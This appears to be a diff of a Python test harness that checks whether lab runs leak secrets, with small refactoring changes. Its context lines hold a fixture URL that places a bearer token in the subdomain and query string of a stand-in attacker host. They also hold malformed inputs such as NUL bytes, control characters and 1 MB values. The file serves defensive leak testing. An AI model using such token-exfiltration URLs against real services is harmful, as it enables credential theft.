@@ -183,7 +183,7 @@ def run_echoed(lab, case):
             "set": {"nextUri": "https://{bearer}.evil.example/x?token={bearer}", "id": "{bearer}"},
             "each": {"id": "{bearer}", "dbid": "{cookie}", "name": "{api_key}"}}}])
     run = lab.run(scenario.module, args)
-    problems = [] if run.ok else [p for p in failure_problems(run, api=False)]
+    problems = [] if run.ok else list(failure_problems(run, api=False))
     secrets = leaked(run, matrix.secrets_of(scenario.module, args), lab.generated, scenario.allowed)
     return {"problems": problems, "secrets": secrets, "outcome": run.summary(), "seconds": run.seconds}
 
@@ -315,8 +315,8 @@ MEGABYTE = "v" * (1024 * 1024)
 STRUCTURED_CASES = {
     "nexus_service data: NUL in a value": (nexus_service, "nexus_service/create SMS", {"data": {"provider": "mGage\x00"}}),
     "nexus_service data: 1 MB value": (nexus_service, "nexus_service/create SMS", {"data": {"provider": MEGABYTE}}),
-    "nexus_service data: control character in a key": (nexus_service, "nexus_service/create SMS",
-                                                        {"data": {"pro\x1bvider": "mGage"}}),
+    "nexus_service data: control character in a key": (
+        nexus_service, "nexus_service/create SMS", {"data": {"pro\x1bvider": "mGage"}}),
     "nexus_service secret: NUL in a value": (nexus_service, "nexus_service/update mGageSMS",
                                              {"secret": {"username": "acme", "password": "pass\x00word-2026"}}),
     "nexus_service secret: line break in a value": (nexus_service, "nexus_service/update mGageSMS",
